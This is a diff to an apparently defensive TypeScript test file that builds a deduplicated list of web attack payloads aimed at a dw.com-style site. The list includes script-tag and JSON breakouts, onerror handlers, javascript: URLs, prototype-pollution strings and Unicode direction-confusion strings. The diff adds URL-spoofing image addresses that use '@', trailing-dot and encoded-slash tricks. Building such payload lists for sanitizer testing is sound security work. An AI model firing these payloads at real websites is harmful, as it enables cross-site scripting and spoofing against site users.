@@ -73,7 +73,10 @@ const styles = [`background:url(javascript:${run})`, `background:url(https://${f
 const confusions = ['\u202e', '\u202d', '\u2066', '\u2067', '\u2068', '\u200f', '\u061c', '\ufeff', '\u0000', '\u0008', '\ud800', '\udfff'].flatMap((sign) => [`${sign}dw.com`, `https://${sign}moc.wd//:sptth`, `<a href="https://\u0501w.com/">${sign}www.dw.com</a>`, `<bdo dir=rtl>${sign}</bdo>`]);
 const jsonBreaks = [`</script><script>${run}</script>`, `"}</script><img src=x onerror=${run}>`, `\\u003cscript\\u003e${run}`, `","__proto__":{"polluted":1},"x":"`, `<!--<script>`, `\\"+${run}+\\"`, `constructor`, `\u2028${run}\u2029`, `${fetchIt}`, `\`\${${run}}\``];
 
+const foreignPictures = ['https://', '//', 'https:\\\\', 'https://static.dw.com@', 'https://static.dw.com.', 'https://static.dw.com%2f@', 'https://dw.com#@']
+  .flatMap((start) => ['/image/12345678_605.jpg', '/i.png', '/image/12345678_${formatId}.jpg'].map((path) => `${start}${foreignHost}${path}`));
+
 /** Every payload, without doubles. */
 export const payloads: readonly string[] = [...new Set([
-  ...listeners, ...handlers(), ...scripts, ...mutations(), ...addresses(), ...clobbering, ...templates, ...styles, ...confusions, ...jsonBreaks,
+  ...listeners, ...handlers(), ...scripts, ...mutations(), ...addresses(), ...clobbering, ...templates, ...styles, ...confusions, ...jsonBreaks, ...foreignPictures,
 ])];
